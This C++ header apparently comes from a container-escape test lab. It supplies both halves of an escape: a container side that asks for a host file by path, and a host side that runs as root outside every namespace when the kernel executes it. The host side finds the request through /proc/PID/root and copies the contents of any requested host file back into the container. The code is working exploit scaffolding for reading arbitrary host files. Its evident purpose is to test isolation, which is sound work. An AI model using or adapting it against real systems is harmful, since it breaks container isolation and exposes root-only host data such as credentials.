// The two ends of the attacks that make the kernel start a program on the host, as root and outside of
// every namespace. That program is the attack itself, as the host sees it. It is called with the name
// of a directory in the container's root, finds there which file of the host is wanted, and leaves
// what it says beside it.
#pragma once

#include <dirent.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>

constexpr const char* kOrder = "/lab-order-";

// The container's end: the wish, and what came of it.
class Order {
 public:
  explicit Order(const char* file) {
    if (mkdtemp(directory_.data()) == nullptr) std::perror("mkdtemp");
    std::ofstream(directory_ + "/wanted") << file;
  }
  ~Order() {
    for (const char* name : {"/wanted", "/answer"}) unlink((directory_ + name).c_str());
    rmdir(directory_.c_str());
  }
  Order(const Order&) = delete;
  Order& operator=(const Order&) = delete;

  const std::string& name() const { return directory_; }

  // Waits for the answer, and prints it. Returns the exit status of the escape.
  int verdict() const {
    const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(5);
    while (std::chrono::steady_clock::now() < end) {
      std::ifstream answer(directory_ + "/answer");
      if (answer) {
        std::cout
            << "escaped: the host's kernel ran a program of the container as the host's root: "
            << answer.rdbuf();
        return 0;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    std::puts("held: written, but the kernel ran nothing");
    return 1;
  }

 private:
  std::string directory_ = std::string(kOrder) + "XXXXXX";
};

inline bool is_order(int argc, char** argv) {
  return argc == 2 && std::strncmp(argv[1], kOrder, std::strlen(kOrder)) == 0;
}

// The host's end. /proc/PID/root leads from the host into the container's root directory, for one of
// its processes; only there does the order exist.
inline int run_order(const char* name) {
  DIR* proc = opendir("/proc");
  if (proc == nullptr) return 1;
  while (const dirent* entry = readdir(proc)) {
    const std::string directory = "/proc/" + std::string(entry->d_name) + "/root" + name;
    std::ifstream wanted(directory + "/wanted");
    std::string file;
    if (!std::getline(wanted, file)) continue;
    // The answer appears all at once.
    std::ofstream(directory + "/partial")
        << "uid " << getuid() << ", " << file << " says " << std::ifstream(file).rdbuf();
    return std::rename((directory + "/partial").c_str(), (directory + "/answer").c_str());
  }
  return 1;
}
